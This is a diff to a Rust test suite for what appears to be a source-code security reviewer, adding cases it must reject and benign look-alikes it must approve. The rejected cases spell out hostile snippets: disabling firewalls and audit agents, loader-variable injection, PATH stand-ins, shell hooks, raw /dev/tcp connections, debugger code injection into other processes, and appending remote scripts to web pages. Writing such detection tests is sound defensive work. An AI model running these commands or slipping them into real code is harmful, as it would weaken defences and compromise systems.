@@ -629,7 +629,7 @@ fn ids(answer: &ReviewAnswer) -> Vec<String> {
     "javascript",
     "process.env.NODE_OPTIONS = \"S1\";\n",
     Verdict::Major,
-    "js-loader-variable",
+    "loader-variable",
     1
 )]
 #[case::setuid("bash", "chmod u+s /bin/bash\n", Verdict::Major, "sh-setuid", 1)]
@@ -1958,6 +1958,245 @@ fn precompiled_rules_match_as_their_regexes_do() {
     "holds-download-and-run",
     2
 )]
+// held-aside-4's families, each spelled unlike the file that showed it.
+#[case::js_ci_path_as_a_member(
+    crate::Lang::JavaScript,
+    "const fs = require(\"fs\");\nfs.appendFileSync(process.env.GITHUB_PATH, `${dir}\\n`);\n",
+    Verdict::Major,
+    "loader-variable",
+    2
+)]
+#[case::ts_loader_variable_as_a_key(
+    crate::Lang::TypeScript,
+    "import { spawn } from \"child_process\";\nconst env = { ...process.env, NODE_OPTIONS: \"--require ./hook.js\" };\nspawn(\"npm\", [\"test\"], { env });\n",
+    Verdict::Major,
+    "loader-variable",
+    2
+)]
+#[case::py_loader_variable_as_a_keyword(
+    crate::Lang::Python,
+    "import os, subprocess\nsubprocess.run([\"make\"], env=dict(os.environ, LD_PRELOAD=\"./x.so\"))\n",
+    Verdict::Major,
+    "loader-variable",
+    2
+)]
+#[case::sh_ci_path_file(
+    crate::Lang::Bash,
+    "echo \"$PWD/.tools\" >> \"$GITHUB_PATH\"\n",
+    Verdict::Major,
+    "sh-ci-env-file",
+    1
+)]
+#[case::sh_loader_variable_kept_by_the_sanitizer(
+    crate::Lang::Bash,
+    "export PERL5OPT=-Mhook\nperl build.pl\n",
+    Verdict::Major,
+    "names-loader-variable",
+    1
+)]
+#[case::py_security_commands_in_a_tuple(
+    crate::Lang::Python,
+    "import subprocess\nSTEPS = (\"ufw disable\", \"setenforce 0\")\nfor step in STEPS:\n    subprocess.run(step.split())\n",
+    Verdict::Major,
+    "disables-security-tool",
+    2
+)]
+#[case::js_security_commands_in_a_table(
+    crate::Lang::JavaScript,
+    "const { execFileSync } = require(\"child_process\");\nconst plan = [[\"systemctl\", \"mask\", \"apparmor\"], [\"auditctl\", \"-e\", \"0\"]];\nfor (const [cmd, ...args] of plan) execFileSync(cmd, args);\n",
+    Verdict::Major,
+    "disables-security-tool",
+    2
+)]
+#[case::sh_security_service_stopped(
+    crate::Lang::Bash,
+    "sudo -n systemctl disable --now firewalld.service\n",
+    Verdict::Major,
+    "disables-security-tool",
+    1
+)]
+#[case::sh_security_agent_killed(
+    crate::Lang::Bash,
+    "pkill -9 -x osqueryd || true\n",
+    Verdict::Major,
+    "disables-security-tool",
+    1
+)]
+#[case::sh_git_alias_value_in_a_variable(
+    crate::Lang::Bash,
+    "body='!git fetch -q && sh ./post.sh'\ngit config --global alias.up \"$body\"\n",
+    Verdict::Major,
+    "run-git-command-setting",
+    2
+)]
+#[case::sh_git_push_mirror(
+    crate::Lang::Bash,
+    "git remote add backup \"$URL\"\ngit push --mirror backup\n",
+    Verdict::Major,
+    "git-push-destroys",
+    2
+)]
+#[case::py_git_push_deletes_a_tag(
+    crate::Lang::Python,
+    "import subprocess\nsubprocess.run([\"git\", \"push\", \"origin\", \":refs/tags/v1.0\"], check=True)\n",
+    Verdict::Major,
+    "git-push-destroys",
+    2
+)]
+#[case::sh_stand_in_through_substitution(
+    crate::Lang::Bash,
+    "p=@/bin/doas\nt=${p/@/$HOME}\ninstall -m 755 ./wrap.sh \"$t\"\n",
+    Verdict::Major,
+    "installs-stand-in",
+    3
+)]
+#[case::py_stand_in_for_git(
+    crate::Lang::Python,
+    "import os\nwith open(os.path.expanduser(\"~/.local/bin/git\"), \"w\") as f:\n    f.write(shim)\n",
+    Verdict::Major,
+    "installs-stand-in",
+    2
+)]
+#[case::sh_home_first_on_path_in_a_loop(
+    crate::Lang::Bash,
+    "for rc in ~/.profile ~/.zprofile; do\n  echo 'export PATH=~/bin:$PATH' >> \"$rc\"\ndone\n",
+    Verdict::Major,
+    "holds-shell-hook",
+    2
+)]
+#[case::sh_debug_trap_written(
+    crate::Lang::Bash,
+    "hook=\"trap 'logger -t cmd \\\"\\$BASH_COMMAND\\\"' DEBUG\"\nprintf '%s\\n' \"$hook\" >> ~/.bash_profile\n",
+    Verdict::Major,
+    "holds-shell-hook",
+    1
+)]
+#[case::js_prompt_command_written(
+    crate::Lang::JavaScript,
+    "const fs = require(\"fs\");\nfs.appendFileSync(rc, 'PROMPT_COMMAND=\"h;$PROMPT_COMMAND\"\\n');\n",
+    Verdict::Major,
+    "holds-shell-hook",
+    2
+)]
+#[case::py_zsh_hook_written(
+    crate::Lang::Python,
+    "with open(rc, \"a\") as f:\n    f.write(\"autoload -Uz add-zsh-hook\\nadd-zsh-hook preexec log_cmd\\n\")\n",
+    Verdict::Major,
+    "holds-shell-hook",
+    2
+)]
+#[case::sh_awk_after_its_options(
+    crate::Lang::Bash,
+    "awk -F, -v n=2 '{ print $n | \"sh\" }' jobs.csv\n",
+    Verdict::Rejected,
+    "run-code-string",
+    1
+)]
+#[case::sh_installed_package_changed(
+    crate::Lang::Bash,
+    "printf '%s\\n' \"$line\" >> node_modules/.bin/eslint\n",
+    Verdict::Major,
+    "changes-installed-package",
+    1
+)]
+#[case::sh_tracer_attached(
+    crate::Lang::Bash,
+    "strace -f -e trace=read -p \"$(pgrep -o sshd)\" 2> t.log\n",
+    Verdict::Major,
+    "attaches-to-process",
+    1
+)]
+#[case::sh_debugger_args_in_an_array(
+    crate::Lang::Bash,
+    "args=(-batch -p 1)\ngdb \"${args[@]}\"\n",
+    Verdict::Major,
+    "attaches-to-process",
+    2
+)]
+#[case::sh_lldb_runs_a_command_inside(
+    crate::Lang::Bash,
+    "lldb --batch -n dockerd -o 'expr (int)system(\"id\")'\n",
+    Verdict::Rejected,
+    "run-in-another-process",
+    1
+)]
+#[case::py_gdb_loads_a_library_inside(
+    crate::Lang::Python,
+    "import subprocess\nsubprocess.run([\"gdb\", \"-batch\", \"-ex\", \"attach 1\", \"-ex\", \"call (void*)dlopen(\\\"/tmp/x.so\\\", 2)\"])\n",
+    Verdict::Rejected,
+    "run-in-another-process",
+    2
+)]
+#[case::ts_global_through_an_assertion(
+    crate::Lang::TypeScript,
+    "const name = pick();\nconst p = (globalThis as any)[name];\n",
+    Verdict::Rejected,
+    "js-computed-global",
+    2
+)]
+#[case::js_global_through_reflect(
+    crate::Lang::JavaScript,
+    "const key = Object.keys(globalThis).find((k) => k.length === 7);\nconst p = Reflect.get(globalThis, key);\n",
+    Verdict::Rejected,
+    "js-computed-global",
+    2
+)]
+#[case::js_global_values_searched(
+    crate::Lang::JavaScript,
+    "const [, p] = Object.entries(globalThis).find(([k]) => k.endsWith(\"ess\"));\n",
+    Verdict::Rejected,
+    "js-global-values",
+    1
+)]
+#[case::js_builtin_module_by_name(
+    crate::Lang::JavaScript,
+    "const m = process.getBuiltinModule(which);\nm.execSync(\"id\");\n",
+    Verdict::Rejected,
+    "js-dynamic-import",
+    1
+)]
+#[case::js_builtin_module_is_an_import(
+    crate::Lang::JavaScript,
+    "const cp = process.getBuiltinModule(\"child_process\");\ncp.execSync(\"id\");\n",
+    Verdict::Rework,
+    "js-child-exec",
+    2
+)]
+#[case::sh_dev_tcp_in_quotes(
+    crate::Lang::Bash,
+    "h=203.0.113.9\nexec 3<>\"/dev/tcp/$h/443\"\ncat <&3\n",
+    Verdict::Major,
+    "sh-dev-tcp",
+    2
+)]
+#[case::py_server_on_every_interface(
+    crate::Lang::Python,
+    "from http.server import HTTPServer, SimpleHTTPRequestHandler\nHTTPServer((\"\", 8000), SimpleHTTPRequestHandler).serve_forever()\nprint(\"see http://127.0.0.1:8000\")\n",
+    Verdict::Major,
+    "py-http-server",
+    1
+)]
+#[case::py_server_bound_to_a_wildcard_default(
+    crate::Lang::Python,
+    "import argparse, http.server\np = argparse.ArgumentParser()\np.add_argument(\"--host\", default=\"0.0.0.0\")\nprint(\"also 127.0.0.1\")\n",
+    Verdict::Major,
+    "py-http-server",
+    1
+)]
+#[case::js_remote_script_appended(
+    crate::Lang::JavaScript,
+    "const fs = require(\"fs\");\nconst tail = ';(()=>{const e=document.createElement(\"script\");e.src=\"https://cdn.example.net/t.js\";document.body.append(e)})();';\nfor (const f of bundles) fs.appendFileSync(f, tail);\n",
+    Verdict::Major,
+    "appends-remote-script",
+    3
+)]
+#[case::py_remote_tag_appended(
+    crate::Lang::Python,
+    "import pathlib\nfor page in pathlib.Path(\"public\").glob(\"*.html\"):\n    with open(page, \"a\") as f:\n        f.write('<script src=\"https://stats.example.org/s.js\"></script>')\n",
+    Verdict::Major,
+    "appends-remote-script",
+    4
+)]
 fn blind_set_families_are_refused(
     #[case] lang: crate::Lang,
     #[case] source: &str,
@@ -2006,7 +2245,74 @@ fn blind_set_families_are_refused(
     crate::Lang::Python,
     "print(\"usage: cat data.csv | python3 stats.py\")\nprint(\"see https://example.org | docs\")\n"
 )]
+#[case::sh_syntax_checks(
+    crate::Lang::Bash,
+    "bash -n deploy.sh\nsh -n ./install.sh\nnode --check app.js\nfind . -name '*.sh' -print0 | xargs -0 -r shellcheck\n"
+)]
+#[case::py_server_on_loopback(
+    crate::Lang::Python,
+    "import http.server\nsrv = http.server.ThreadingHTTPServer((\"127.0.0.1\", 8000), http.server.SimpleHTTPRequestHandler)\nsrv.serve_forever()\n"
+)]
+#[case::sh_dev_tcp_to_loopback(
+    crate::Lang::Bash,
+    "host=127.0.0.1\nuntil (exec 3<>\"/dev/tcp/$host/5432\") 2>/dev/null; do sleep 1; done\nexec 4<>/dev/tcp/localhost/6379\n"
+)]
+#[case::js_ordinary_environment(
+    crate::Lang::JavaScript,
+    "const sha = process.env.GITHUB_SHA || \"local\";\nconst env = { ...process.env, NODE_ENV: \"production\" };\nconsole.log(sha, env.NODE_ENV);\n"
+)]
+#[case::sh_own_prompt_and_path(
+    crate::Lang::Bash,
+    "export PATH=\"$HOME/.local/bin:$PATH\"\nPROMPT_COMMAND='history -a'\ntrap 'echo \"line $LINENO: $BASH_COMMAND\"' DEBUG\necho \"version=$v\" >> build.env\n"
+)]
+#[case::sh_git_ordinary(
+    crate::Lang::Bash,
+    "git config user.name \"CI Bot\"\ngit config alias.st status\ngit push origin \"v$VERSION\"\ngit push --force-with-lease origin HEAD\n"
+)]
+#[case::py_security_words_in_a_report(
+    crate::Lang::Python,
+    "CHECKS = [\"auditd\", \"apparmor\", \"ufw\"]\nfor c in CHECKS:\n    print(c, \"to re-enable: setenforce 1\")\n"
+)]
+#[case::sh_own_tool_in_home_bin(
+    crate::Lang::Bash,
+    "d=\"$HOME/.local/bin\"\nmkdir -p \"$d\"\ncp build/mytool \"$d/mytool\"\n"
+)]
+#[case::sh_awk_reads_fields(
+    crate::Lang::Bash,
+    "awk -v n=3 -F, '{ print $n }' data.csv\nawk -f report.awk data.csv\n"
+)]
+#[case::sh_debugger_on_own_program(
+    crate::Lang::Bash,
+    "gdb -batch -ex run -ex bt --args ./build/app --fast\nstrace -f -o trace.log ./build/app\n"
+)]
+#[case::ts_globals_by_name(
+    crate::Lang::TypeScript,
+    "const n = Object.keys(globalThis).length;\n(globalThis as any).debugFlag = true;\nconst fs = process.getBuiltinModule(\"node:fs\");\nconsole.log(n, fs.existsSync(\"x\"));\n"
+)]
+#[case::sh_variables_in_ordinary_commands(
+    crate::Lang::Bash,
+    "tmp=$(mktemp -d)\nrm -rf \"$tmp\"/*\nout=\"${1:-./out}\"\nmkdir -p \"$out\"\nfor f in a b; do cp \"$f.txt\" \"$out/\"; done\n"
+)]
+#[case::js_page_with_a_cdn_script_written(
+    crate::Lang::JavaScript,
+    "const fs = require(\"fs\");\nfs.writeFileSync(\"dist/index.html\", '<script src=\"https://cdn.example.org/lib.js\"></script>');\nfs.appendFileSync(\"dist/app.html\", '<script src=\"/app.js\"></script>');\n"
+)]
 fn blind_set_look_alikes_are_approved(#[case] lang: crate::Lang, #[case] source: &str) {
     let answer = judge_source(lang, source);
     assert_eq!(answer.verdict, Verdict::Approve, "{answer:?}");
+}
+
+/// The catalog's `loader-variable` (names in code) and the literals'
+/// `names-loader-variable` (names in strings) read the same names.
+#[test]
+fn loader_variables_are_the_same_in_code_and_in_strings() {
+    let spec = specs()
+        .into_iter()
+        .find(|spec| spec.id == "loader-variable")
+        .expect("the rule exists");
+    let regex = Regex::new(spec.pattern).expect("compiles");
+    for name in literals::LOADER_VARIABLES {
+        assert!(regex.is_match(&format!("env.{name} = x")), "{name}");
+    }
+    assert!(!regex.is_match("env.NODE_OPTIONS_EXTRA = x"));
 }
